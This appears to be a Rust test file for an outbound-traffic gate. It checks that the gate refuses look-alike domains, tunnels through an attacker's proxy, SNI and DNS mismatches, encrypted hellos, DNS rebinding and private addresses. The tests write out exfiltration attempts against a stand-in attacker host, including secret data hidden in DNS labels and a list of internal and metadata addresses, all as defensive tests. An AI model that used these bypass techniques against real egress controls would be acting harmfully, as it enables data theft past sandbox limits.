//! By name alone: what is reached, and every way in which it is not. Row numbers are those of the threats.

use crate::{
    agent::{dial, echo, look_up, shake},
    hello,
    internet::{API, ATTACKER, ATTACKER_V6},
    world::{World, until},
};
use hickory_proto::{op::ResponseCode, rr::RecordType};
use hydra_core::egress::{DenyReason, gate::GateLine};
use std::{
    io::{Read as _, Write as _},
    net::{IpAddr, Ipv4Addr},
    time::Duration,
};

/// `access_denied`, as rustls shows it.
const DENIED: &str = "AccessDenied";

#[test]
#[ignore = "needs namespaces"]
fn an_allowed_name_is_reached_and_counted() {
    let mut world = World::new();
    let mut stream = world.reach("API.example.org").unwrap();
    echo(&mut stream, "hello").unwrap();
    drop(stream);
    assert_eq!(world.internet.calls(), [(API.into(), "api.example.org".to_owned())]);
    echo(&mut world.reach("a.files.example.org").unwrap(), "hello").unwrap();
    let GateLine::Report { reached, denied, .. } = world.report() else { panic!() };
    assert_eq!(denied, []);
    let [files, api] = reached.as_slice() else { panic!("{reached:#?}") };
    assert_eq!((files.host.as_str(), api.host.as_str()), ("*.files.example.org", "api.example.org"));
    assert!(api.connections == 1 && api.up > 200 && api.down > 500, "{api:?}");
}

#[test]
#[ignore = "needs namespaces"]
fn row_15_look_alikes_do_not_exist() {
    for name in
        ["evil.test", "api.example.org.evil.test", "evilapi.example.org", "x.a.files.example.org", "files.example.org"]
    {
        let world = World::new();
        assert_eq!(world.ask(name, RecordType::A), (ResponseCode::NXDomain, None), "{name}");
        let denial = world.one_refusal();
        assert_eq!((denial.reason, denial.host.as_deref()), (DenyReason::DnsNotAllowed, Some(name)));
        assert_eq!(denial.hint, format!("add \"{name}\" to `builder` in [egress.extra] of hydra.toml"));
        world.internet.saw_nothing();
    }
}

#[test]
#[ignore = "needs namespaces"]
fn row_07_a_literal_address_without_a_name() {
    let world = World::new();
    let error = world.shake(ATTACKER, "11.0.0.66").unwrap_err().to_string();
    assert!(error.contains(DENIED), "{error}");
    let denial = world.one_refusal();
    assert_eq!((denial.reason, denial.dst, denial.dport), (DenyReason::TlsNoSni, Some(ATTACKER.into()), Some(443)));
    world.internet.saw_nothing();
}

#[test]
#[ignore = "needs namespaces"]
fn row_08_an_allowed_name_sent_to_the_attackers_address_goes_to_the_name() {
    let world = World::new();
    for attacker in [IpAddr::from(ATTACKER), ATTACKER_V6.into()] {
        world.internet.forget();
        echo(&mut world.shake(attacker, "api.example.org").unwrap(), "secret").unwrap();
        assert_eq!(world.internet.calls(), [(API.into(), "api.example.org".to_owned())]);
        assert_eq!(world.internet.packets("attacker"), 0);
    }
    // What goes to the name is no refusal: the attacker's address was looked at by nobody.
    assert!(!world.lines().iter().any(|line| matches!(line, GateLine::Denied(_))), "{:#?}", world.lines());
}

#[test]
#[ignore = "needs namespaces"]
fn row_09_a_tunnel_to_one_name_with_another_inside() {
    for inside in ["a.files.example.org", "evil.test"] {
        let world = World::new();
        // Unfenced, to a proxy of the attacker's.
        let error = world.attack(move || {
            let mut stream = dial((ATTACKER, 443))?;
            stream.write_all(b"CONNECT api.example.org:443 HTTP/1.1\r\nHost: api.example.org:443\r\n\r\n")?;
            let mut said = [0; 39];
            stream.read_exact(&mut said)?;
            assert_eq!(&said, b"HTTP/1.1 200 Connection established\r\n\r\n");
            shake(stream, inside).map(drop)
        });
        let error = error.unwrap_err().to_string();
        assert!(error.contains(DENIED), "{error}");
        let denial = world.one_refusal();
        assert_eq!((denial.reason, denial.sni.as_deref()), (DenyReason::ConnectSniMismatch, Some(inside)));
        assert_eq!(denial.host.as_deref(), Some("api.example.org"));
        world.internet.saw_nothing();
    }
}

#[test]
#[ignore = "needs namespaces"]
fn a_tunnel_to_an_allowed_name_is_given() {
    let world = World::new();
    world.agent(|| {
        let mut stream = dial(([10, 0, 0, 1], 443)).unwrap();
        stream.write_all(b"CONNECT api.example.org:443 HTTP/1.1\r\n\r\n").unwrap();
        let mut said = [0; 39];
        stream.read_exact(&mut said).unwrap();
        echo(&mut shake(stream, "api.example.org").unwrap(), "hello").unwrap();
    });
    assert_eq!(world.internet.calls(), [(API.into(), "api.example.org".to_owned())]);
}

#[test]
#[ignore = "needs namespaces"]
fn rows_17_32_and_33_other_requests_are_refused_with_the_reason() {
    let refused = [
        ("CONNECT evil.test:443 HTTP/1.1\r\n\r\n", DenyReason::DnsNotAllowed, "evil.test"),
        ("CONNECT api.example.org:80 HTTP/1.1\r\n\r\n", DenyReason::ConnectPort, "api.example.org:80"),
        (
            "GET http://api.example.org/ HTTP/1.1\r\nHost: api.example.org\r\n\r\n",
            DenyReason::ConnectMethod,
            "api.example.org",
        ),
        ("CONNECT api.example.org:443 HTTP/1.1\r\n\r\n\x16\x03\x01", DenyReason::ConnectMethod, "api.example.org"),
        (
            "CONNECT api.example.org:443 HTTP/1.1\r\nContent-Length: 4\r\n\r\n",
            DenyReason::ConnectMethod,
            "api.example.org",
        ),
    ];
    for (request, reason, host) in refused {
        let world = World::new();
        let said = String::from_utf8(world.raw(request.as_bytes())).unwrap();
        assert!(said.starts_with("HTTP/1.1 403 Forbidden\r\n"), "{request}: {said}");
        let body: serde_json::Value = serde_json::from_str(said.split("\r\n\r\n").nth(1).unwrap()).unwrap();
        assert_eq!(body["reason"], reason.as_str(), "{said}");
        let denial = world.one_refusal();
        assert_eq!((denial.reason, denial.host.as_deref()), (reason, Some(host)), "{request}");
        world.internet.saw_nothing();
    }
}

#[test]
#[ignore = "needs namespaces"]
fn row_12_kinds_of_records_that_could_hide_a_name_are_never_answered() {
    for kind in [RecordType::HTTPS, RecordType::SVCB, RecordType::TXT] {
        let world = World::new();
        assert_eq!(world.ask("api.example.org", kind), (ResponseCode::NoError, None));
        assert_eq!(world.one_refusal().reason, DenyReason::DnsQtype);
        world.internet.saw_nothing();
    }
}

#[test]
#[ignore = "needs namespaces"]
fn row_12_a_hello_that_hides_its_name_is_refused_though_its_outer_name_is_allowed() {
    let world = World::new();
    let said = world.raw(&hello::encrypted("api.example.org"));
    assert!(said.ends_with(&[2, 49]), "{said:?}");
    let denial = world.one_refusal();
    assert_eq!((denial.reason, denial.sni.as_deref()), (DenyReason::TlsEch, Some("api.example.org")));
    world.internet.saw_nothing();
}

#[test]
#[ignore = "needs namespaces"]
fn row_13_what_is_no_tls() {
    for bytes in [b"SSH-2.0-OpenSSH_9.2\r\n".as_slice(), b"\x00\x0e\x38\x01", b"HELO there\r\n\r\n"] {
        let world = World::new();
        let said = world.raw(bytes);
        assert!(said.ends_with(&[2, 49]) || said.starts_with(b"HTTP/1.1 403"), "{said:?}");
        assert_eq!(world.one_refusal().reason, DenyReason::TlsNotTls, "{bytes:?}");
        world.internet.saw_nothing();
    }
}

#[test]
#[ignore = "needs namespaces"]
fn row_16_data_in_the_labels_of_a_name_reaches_no_resolver() {
    let world = World::new();
    world.ask("c2VjcmV0.evil.test", RecordType::A);
    assert_eq!(world.internet.open_calls().0, ["c2vjcmv0.evil.test"], "unfenced, its server reads the label");
    // Below an allowed name it is answered, and nobody is asked either.
    let below = world.look_up("c2VjcmV0.files.example.org", RecordType::A);
    assert_eq!((below.0, below.1.is_some()), (ResponseCode::NoError, true));
    world.internet.saw_nothing();
    let denial = world.one_refusal();
    assert_eq!((denial.reason, denial.host.as_deref()), (DenyReason::DnsNotAllowed, Some("c2vjcmv0.evil.test")));
}

#[test]
#[ignore = "needs namespaces"]
fn row_19_a_name_with_an_address_that_is_nobodys_outside() {
    let inside = [
        "10.0.0.1",
        "127.0.0.1",
        "169.254.169.254",
        "100.64.0.1",
        "192.168.1.1",
        "198.18.0.1",
        "0.0.0.0",
        "::1",
        "::ffff:11.0.0.66",
        "64:ff9b::b00:42",
        "2002:b00:42::1",
        "fd00:ec2::254",
        "fe80::1",
    ];
    for address in inside {
        let address: IpAddr = address.parse().unwrap();
        let world = World::new();
        world.internet.moves("api.example.org", address);
        // Unfenced, whoever believes the answer goes there; but to itself and to its own link it leaves by no wire.
        if !address.is_loopback() && !address.is_unspecified() && !address.to_string().starts_with("fe80") {
            _ = world.internet.arrives(move || dial((address, 443)).map(drop));
        }
        let error = world.reach("api.example.org").unwrap_err().to_string();
        assert!(error.contains(DENIED), "{error}");
        assert_eq!(world.one_refusal().reason, DenyReason::ResolvePrivate, "{address}");
        world.internet.saw_questions_alone();
    }
    // One good address does not make up for a bad one.
    let world = World::new();
    world.reach("inside.example.org").unwrap_err();
    assert_eq!(world.one_refusal().reason, DenyReason::ResolvePrivate);
    let world = World::new();
    world.reach("nowhere.example.org").unwrap_err();
    assert_eq!(world.one_refusal().reason, DenyReason::ResolveFailed);
}

#[test]
#[ignore = "needs namespaces"]
fn row_20_a_name_whose_address_changes_is_reached_where_it_is() {
    let world = World::new();
    // At night as it is told: every second, for minutes.
    let (turns, pause) = if std::env::var_os("HYDRA_NIGHTLY").is_some() { (150, 1_000) } else { (12, 100) };
    for turn in 0..turns {
        let at: Ipv4Addr = if turn % 2 == 0 { ATTACKER } else { API };
        std::thread::sleep(Duration::from_millis(pause));
        world.internet.moves("api.example.org", at);
        world.internet.forget();
        echo(&mut world.reach("api.example.org").unwrap(), "hello").unwrap();
        assert_eq!(world.internet.calls(), [(at.into(), "api.example.org".to_owned())], "turn {turn}");
    }
}

#[test]
#[ignore = "needs namespaces"]
fn row_21_another_name_on_the_address_of_an_allowed_look_up() {
    for (name, reason) in
        [("evil.test", DenyReason::TlsSniNotAllowed), ("a.files.example.org", DenyReason::TlsSniDnsMismatch)]
    {
        let world = World::new();
        // Unfenced, the server of the allowed name answers for the other one too.
        world.internet.arrives(move || shake(dial((API, 443)).unwrap(), name).map(drop)).unwrap();
        until("a call", || world.internet.open_calls().1 == [(API.into(), name.to_owned())]);
        let error = world.agent(move || {
            let (_, address) = look_up("api.example.org", RecordType::A);
            shake(dial((address.unwrap(), 443))?, name).map(drop)
        });
        let error = error.unwrap_err().to_string();
        assert!(error.contains(DENIED), "{error}");
        let denial = world.one_refusal();
        assert_eq!((denial.reason, denial.sni.as_deref()), (reason, Some(name)));
        assert_eq!(denial.host.as_deref(), Some("api.example.org"));
        world.internet.saw_nothing();
    }
}
